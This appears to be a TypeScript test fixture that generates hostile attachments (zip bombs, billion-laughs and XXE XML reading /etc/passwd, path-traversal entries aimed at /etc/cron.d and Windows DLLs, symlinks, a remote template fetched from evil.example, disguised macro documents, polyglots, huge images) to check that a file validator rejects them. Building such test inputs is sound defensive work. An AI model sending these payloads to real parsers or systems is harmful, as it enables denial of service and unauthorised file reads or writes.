import { zipArchive } from '../zip-archive.js';
import { jpeg, office, officeEntries, ofd, pdf, png, SAMPLES, tiff } from './sample-files.js';

export interface HostileFile {
  readonly what: string;
  readonly extension: string;
  readonly content: () => Buffer;
  readonly code: string;
}

const MEGABYTE = 1024 * 1024;
const zeros = (megabytes: number): Buffer => Buffer.alloc(megabytes * MEGABYTE);
const bomb = (levels: number): Buffer => {
  let inner: Buffer = zipArchive([{ name: '0.bin', content: zeros(10) }]);
  for (let level = 1; level <= levels; level++)
    inner = zipArchive(
      Array.from({ length: 10 }, (_, index) => ({ name: `${level}-${index}.zip`, content: inner })),
    );
  return inner;
};
/** Entity upon entity, ten times as much each. */
const LAUGHS = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${Array.from(
  { length: 9 },
  (_, n) => `<!ENTITY lol${n + 1} "${`&lol${n};`.repeat(10)}">`,
).join('')}]><lolz>&lol9;</lolz>`;
const XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>';

/** A document whose directory counts one entry less than it has: the last is seen by programs that do not count. */
function uncounted(): Buffer {
  const archive = docx('word/vbaProject.bin', 'x');
  const end = archive.length - 22;
  archive.writeUInt16LE(archive.readUInt16LE(end + 10) - 1, end + 10);
  archive.writeUInt16LE(archive.readUInt16LE(end + 8) - 1, end + 8);
  return archive;
}

/** An archive that has itself for its only entry, up to where a reader would notice: the entry points at the whole file. */
function quine(): Buffer {
  const archive = zipArchive([{ name: 'quine.zip', content: Buffer.alloc(4096, 0x41) }]);
  const at = archive.readUInt32LE(archive.length - 6);
  archive.writeUInt32LE(archive.length, at + 20);
  archive.writeUInt32LE(archive.length, at + 24);
  archive.writeUInt16LE(0, at + 10);
  return archive;
}

const docx = (name: string, content: Buffer | string, unixMode?: number): Buffer =>
  office('docx', { more: [{ name, content, ...(unixMode !== undefined && { unixMode }) }] });
const wordMacro = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const excelMacro = 'application/vnd.ms-excel.sheet.macroEnabled.main+xml';

const file = (what: string, extension: string, code: string, content: () => Buffer): HostileFile => ({
  what,
  extension,
  content,
  code: `attachment.${code}`,
});

export const HOSTILE_FILES: readonly HostileFile[] = [
  file('a bomb of ratio 1000', 'docx', 'hostile', () => docx('word/media/image1.bin', zeros(60))),
  file('a bomb of many parts below the ratio of one', 'docx', 'hostile', () =>
    office('docx', {
      more: Array.from({ length: 300 }, (_, n) => ({ name: `word/${n}.bin`, content: zeros(1) })),
    }),
  ),
  file('a bomb that declares small sizes', 'docx', 'hostile', () =>
    office('docx', { more: [{ name: 'word/a.bin', content: zeros(50), declaredSize: 1000 }] }),
  ),
  file('a bomb of XML', 'xlsx', 'hostile', () =>
    office('xlsx', { more: [{ name: 'xl/a.xml', content: `<a>${' '.repeat(50 * MEGABYTE)}</a>` }] }),
  ),
  file('entries that share their bytes', 'docx', 'hostile', () =>
    zipArchive([
      ...officeEntries('docx'),
      { name: 'word/a.bin', content: zeros(1) },
      ...Array.from({ length: 50 }, (_, n) => ({
        name: `word/${n}.bin`,
        content: zeros(1),
        overlaps: true,
      })),
    ]),
  ),
  file('nested archives', 'docx', 'hostile', () => docx('word/media/inner.bin', bomb(2))),
  file('a nested archive that calls itself a workbook', 'docx', 'mismatch', () =>
    docx('word/embeddings/inner.xlsx', bomb(1)),
  ),
  file('a workbook in a workbook in a document', 'docx', 'hostile', () =>
    docx(
      'word/embeddings/inner.xlsx',
      office('xlsx', { more: [{ name: 'xl/embeddings/inner.xlsx', content: SAMPLES.xlsx! }] }),
    ),
  ),
  file('a quine', 'docx', 'damaged', quine),
  file('2,001 entries', 'docx', 'hostile', () =>
    office('docx', { more: Array.from({ length: 2001 }, (_, n) => ({ name: `word/${n}`, content: '' })) }),
  ),
  file('65,535 entries', 'ofd', 'hostile', () =>
    zipArchive(Array.from({ length: 65_535 }, (_, n) => ({ name: `${n}`, content: '' }))),
  ),
  file('an entry that the directory does not count', 'docx', 'damaged', uncounted),
  file('macros that the directory calls something else', 'docx', 'damaged', () =>
    office('docx', {
      more: [{ name: 'word/vbaProject.bin', content: 'x', listedAs: 'word/media/image1.png' }],
    }),
  ),
  file('a path that climbs', 'docx', 'hostile', () => docx('../../../etc/cron.d/x', 'x')),
  file('a path that climbs by backslashes', 'docx', 'hostile', () => docx('word\\..\\..\\x.dll', 'x')),
  file('a path of a drive', 'docx', 'hostile', () => docx('C:\\Windows\\x.dll', 'x')),
  file('a symbolic link', 'docx', 'hostile', () => docx('word/link', '/etc/passwd', 0o120777)),
  file('a device', 'docx', 'hostile', () => docx('word/device', '', 0o020666)),
  file('an external entity', 'docx', 'hostile', () => docx('word/settings.xml', XXE)),
  file('an external entity in OFD', 'ofd', 'hostile', () => ofd([{ name: 'Doc_0/a.xml', content: XXE }])),
  file('a billion laughs', 'xlsx', 'hostile', () =>
    office('xlsx', { more: [{ name: 'xl/a.xml', content: LAUGHS }] }),
  ),
  file('XML nested ten thousand deep', 'docx', 'hostile', () => docx('word/a.xml', '<a>'.repeat(10_000))),
  file('a template from the network', 'docx', 'hostile', () =>
    docx(
      'word/_rels/settings.xml.rels',
      '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
    ),
  ),
  file('macros (docm called docx)', 'docx', 'macros', () => office('docx', { type: wordMacro })),
  file('macros (xlsm called xlsx)', 'xlsx', 'macros', () => office('xlsx', { type: excelMacro })),
  file('a macro project in a docx', 'docx', 'macros', () => docx('word/vbaProject.bin', 'x')),
  file('an ActiveX control', 'docx', 'macros', () => docx('word/activeX/activeX1.xml', '<a/>')),
  file('an embedded object', 'docx', 'macros', () => docx('word/embeddings/oleObject1.bin', 'x')),
  file('a program inside', 'ofd', 'hostile', () =>
    ofd([{ name: 'Doc_0/Res/a.dat', content: 'MZ and so on' }]),
  ),
  file('encrypted entries', 'docx', 'encrypted', () =>
    zipArchive(officeEntries('docx').map((entry) => ({ ...entry, flags: 1 }))),
  ),
  file('a PDF with a password', 'pdf', 'encrypted', () => pdf('<</Encrypt 5 0 R>>\n')),
  file('an archive behind a PDF', 'pdf', 'hostile', () => Buffer.concat([pdf(), SAMPLES.docx!, pdf()])),
  file('an archive behind a picture', 'jpg', 'hostile', () => Buffer.concat([jpeg(), SAMPLES.docx!])),
  file('an archive behind a PNG', 'png', 'hostile', () => Buffer.concat([png(), SAMPLES.xlsx!])),
  file('a document in front of an archive', 'docx', 'mismatch', () => Buffer.concat([pdf(), SAMPLES.docx!])),
  file('bytes between an archive and its end', 'docx', 'hostile', () =>
    Buffer.concat([SAMPLES.docx!, Buffer.from('<script>1</script>')]),
  ),
  file('a PDF inside a text', 'txt', 'hostile', () => Buffer.concat([Buffer.from('hello\n'), pdf()])),
  file('a page that calls itself a text', 'txt', 'mismatch', () => Buffer.from('  <html><script>1</script>')),
  file('a picture of 100,000 × 100,000', 'png', 'hostile', () => png(100_000, 100_000)),
  file('a JPEG of 65,535 × 65,535', 'jpg', 'hostile', () => jpeg(65_535, 65_535)),
  file('a TIFF of 60,000 × 60,000', 'tif', 'hostile', () => tiff(60_000, 60_000)),
  file('a TIFF whose pages go round in a circle', 'tif', 'damaged', () => {
    const bytes = tiff();
    bytes.writeUInt32LE(8, bytes.length - 4);
    return bytes;
  }),
  ...Object.entries(SAMPLES)
    .filter(([extension]) => extension !== 'txt')
    .map(([extension, content]) =>
      file(`half a ${extension}`, extension, 'damaged', () =>
        content.subarray(0, Math.floor(content.length * 0.7)),
      ),
    ),
  file('nothing', 'pdf', 'damaged', () => Buffer.alloc(0)),
];
